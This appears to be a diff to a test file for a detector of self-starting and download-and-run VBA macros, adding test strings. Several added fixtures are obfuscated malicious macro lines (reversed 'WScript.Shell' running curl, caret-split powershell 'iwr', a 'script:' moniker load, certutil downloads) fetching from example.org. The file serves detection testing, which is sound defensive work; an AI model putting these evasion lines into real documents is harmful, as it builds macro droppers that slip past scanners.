@@ -50,7 +50,7 @@ SELF_STARTING = [
     "Sub Document_ContentControlOnEnter(ByVal c As ContentControl)", "Sub Workbook_SheetCalculate(ByVal s As Object)",
     "Sub InkEdit1_GotFocus()", "Sub Frame1_Layout()", "Sub App_DocumentBeforeClose()", "x = 1: Sub Document_New()",
     "Sub WebBrowser1_DocumentComplete(ByVal d As Object, u As Variant)", "Sub Image7_MouseMove(ByVal b As Integer)",
-    "Sub Loaded(ribbon As IRibbonUI)", "Sub\xa0AutoNew()",
+    "Sub Fl\xe4che_GotFocus()", "Sub Loaded(ribbon As IRibbonUI)", "Sub\xa0AutoNew()",
 ]  # fmt: skip
 NOT_SELF_STARTING = [
     "Sub Total()", "Sub CommandButton1_Click()", "' Sub AutoOpen()", "Rem Sub AutoOpen()", 'x = "Sub AutoOpen()"',
@@ -64,6 +64,9 @@ FETCHING_AND_STARTING = [
     'CreateObject("WScr" & "ipt.Shell").Run "certutil -urlcache -f http://example.org/a a.exe"',
     'CreateObject("WScript" + ".Shell").Run "bits" & _\r\n "admin /transfer a"',
     'CreateObject(Chr(87) & "Script.She" & ChrW(&H6C) & "l").Exec "wget http://example.org/a"',
+    'CreateObject(StrReverse("llehS.tpircSW")).Run Replace("cXuXrl -o a http://example.org/a", "X", "")',
+    'Shell "cmd /c p^o^w^ershell i""w""r http://example.org/a"',
+    'GetObject("script:http://example.org/a")',
     "Dim h As New XMLHTTP60\nShell a, 0",
     'Set h = CreateObject("Microsoft.XMLHTTP")\nVBA.Shell (a)',
     'URLDownloadToCacheFile 0, "http://example.org/a", b, 9, 0, 0\nShellExecuteA 0, "open", b, "", "", 0',
@@ -76,6 +79,9 @@ NOT_BOTH = [
     'Shell "notepad.exe"',
     '\' Shell "mshta http://example.org/a"',
     "curl = 1: wget = 2: Shell a",
+    'Shell "explorer.exe " & Format(Now, "hh:nn")',
+    'Shell "ftp -s:orders.txt"',
+    'Shell "rundll32.exe printui.dll,PrintUIEntry"',
 ]
 
 
